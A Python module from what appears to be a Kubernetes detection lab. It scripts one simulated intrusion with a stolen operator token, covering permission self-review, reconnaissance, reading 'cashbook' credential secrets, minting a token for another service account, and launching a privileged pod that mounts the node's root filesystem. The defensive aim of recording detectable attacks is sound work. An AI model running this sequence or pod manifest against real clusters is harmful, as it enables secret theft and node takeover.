"""The break-in of the demo recording: one stolen token, from a quiet look round to a privileged pod.

An `attacks.base.Attack` beside the catalogue: the catalogue shows one technique each, this tells a whole night.
Called by `riverwatch lab record --attacks break-in`.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="break-in",
    title="A night with the database operator's token",
    technique=base.Technique(id="T1528", name="Steal Application Access Token", tactic="Credential Access"),
    use_case=vocabulary.UseCase.CREDENTIAL_MISUSE,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Uses the token of the database operator from a rented machine: asks what it may do, looks round within its "
        "rights, comes back after half an hour for the cashbook's secrets, mints a token for another account, uses it, "
        "and starts a privileged pod that mounts the node's disk."
    ),
    seen_by=(
        "A token bound to a pod comes from elsewhere with another program; then secrets that were never read, tokens "
        "that were never minted, and a pod that no policy should allow."
    ),
    cleans_up="Removes its pod as the last step of the story.",
    victim=base.Part.OPERATOR,
    reach=base.Reach.CLUSTER,
    when=base.When.NIGHT,
    lasts_s=6000.0,
)
"""What a reader should know before it is run."""

TARGET = "cashbook"
"""The namespace with the money."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.OPERATOR)
    thief = ctx.act_as(victim, source_ip=ctx.stranger_ip(), user_agent=context.KUBECTL)
    review = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
    yield thief.create("/apis/authentication.k8s.io/v1/selfsubjectreviews", review)
    rules = {
        "apiVersion": "authorization.k8s.io/v1",
        "kind": "SelfSubjectRulesReview",
        "spec": {"namespace": "databases"},
    }
    yield thief.create("/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", rules)
    yield thief.get("/api/v1/namespaces", {"limit": 500})
    for namespace in (TARGET, "loyalty", "dataworks"):
        yield thief.get(paths.core("pods", namespace), {"limit": 500})
    yield thief.get("/api/v1/nodes", {"limit": 500})
    found = yield thief.get(paths.core("secrets", TARGET), {"limit": 500}, after_s=ctx.rng.uniform(1700, 2300))
    for namespace, name in [item for item in found.items() if item[1].endswith("-credentials")][:5]:
        yield thief.get(paths.core("secrets", namespace, name))
    request = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 86400}}
    account = f"{paths.core('serviceaccounts', TARGET, 'bookkeeper')}/token"
    answer = yield thief.create(account, request, after_s=ctx.rng.uniform(200, 500))
    if token := answer.at("status", "token"):
        minted = ctx.minted(victim, token, username=f"system:serviceaccount:{TARGET}:bookkeeper")
        second = ctx.act_as(minted, source_ip=thief.manner.source_ip, user_agent=context.KUBECTL)
        yield second.get(paths.core("secrets", TARGET), {"limit": 500})
        yield second.get(paths.core("configmaps", TARGET), {"limit": 500})
    name = ctx.name("pg-maintenance")
    pods = paths.core("pods", TARGET)
    ctx.remove_later(f"{pods}/{name}")
    yield thief.create(pods, _pod(name), after_s=ctx.rng.uniform(300, 700))
    yield thief.get(f"{pods}/{name}", after_s=12)
    for command in ("id", "cat"):
        query = [
            ("command", command),
            ("container", "maintenance"),
            ("stdin", "true"),
            ("stdout", "true"),
            ("tty", "true"),
        ]
        yield thief.stream(f"{pods}/{name}/exec", query)
    yield thief.delete(f"{pods}/{name}", after_s=ctx.rng.uniform(400, 800))


def _pod(name: str) -> dict[str, object]:
    """Give the pod that opens the node."""
    container = {
        "name": "maintenance",
        "image": "docker.io/library/alpine:3.22",
        "command": ["sleep", "86400"],
        "securityContext": {"privileged": True},
        "volumeMounts": [{"name": "host", "mountPath": "/host"}],
    }
    volumes = [{"name": "host", "hostPath": {"path": "/"}}]
    spec = {"hostPID": True, "containers": [container], "volumes": volumes, "restartPolicy": "Always"}
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "labels": {"app": "pg-maintenance"}},
        "spec": spec,
    }


ATTACK = base.Attack(card=CARD, script=script)
"""The whole night."""
